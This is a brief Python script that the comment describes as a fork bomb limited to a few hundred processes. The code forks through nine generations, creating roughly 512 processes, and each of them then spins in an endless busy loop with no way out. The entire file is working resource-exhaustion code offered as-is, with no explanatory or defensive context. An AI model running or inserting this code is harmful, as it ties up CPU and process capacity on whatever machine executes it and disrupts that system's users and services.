# As any fork bomb, but of at most some hundred processes, should nothing hold it.
import os

generation = 0
while True:
    if generation < 9:
        try:
            generation += 1
            if os.fork() != 0:
                continue
        except OSError:
            generation -= 1
